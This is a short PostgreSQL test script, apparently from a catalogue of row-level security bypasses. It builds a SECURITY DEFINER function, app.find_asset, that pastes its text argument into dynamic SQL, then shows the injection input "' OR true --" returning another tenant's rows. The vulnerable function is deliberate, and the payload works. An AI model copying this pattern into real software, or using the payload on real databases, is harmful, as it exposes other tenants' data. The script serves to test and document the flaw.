-- hole: the filter of a SECURITY DEFINER function can be closed with a quote
-- object: app.find_asset(text)
-- attack: function, read
-- seen: crossed
-- role: {app}
-- why: the text is pasted into dynamic SQL; what comes after the quote runs as an owner who bypasses policies.
CREATE ROLE {owner} NOLOGIN BYPASSRLS;
CREATE ROLE {app} LOGIN;
CREATE SCHEMA app AUTHORIZATION {owner};
SET ROLE {owner};
CREATE TABLE app.asset (tenant_id text NOT NULL, label text NOT NULL, PRIMARY KEY (tenant_id, label));
ALTER TABLE app.asset ENABLE ROW LEVEL SECURITY;
ALTER TABLE app.asset FORCE ROW LEVEL SECURITY;
CREATE POLICY own ON app.asset USING (tenant_id = nullif(current_setting('app.tenant_id', true), ''));
CREATE FUNCTION app.find_asset(word text) RETURNS SETOF app.asset
  LANGUAGE plpgsql STABLE SECURITY DEFINER SET search_path = pg_catalog, pg_temp
  AS $$
  BEGIN
    RETURN QUERY EXECUTE
      'SELECT * FROM app.asset WHERE tenant_id = nullif(current_setting(''app.tenant_id'', true), '''')'
      || ' AND label = ''' || word || '''';
  END $$;
GRANT USAGE ON SCHEMA app TO {app};
GRANT SELECT, INSERT, UPDATE, DELETE ON app.asset TO {app};
RESET ROLE;
INSERT INTO app.asset VALUES ('north', 'crane'), ('south', 'drill');

-- session 1 as {app}
SET app.tenant_id = 'north';
SELECT label FROM app.find_asset('drill');
-- gives: nothing
SELECT label FROM app.find_asset($$' OR true --$$) ORDER BY label;
-- gives: crane; drill
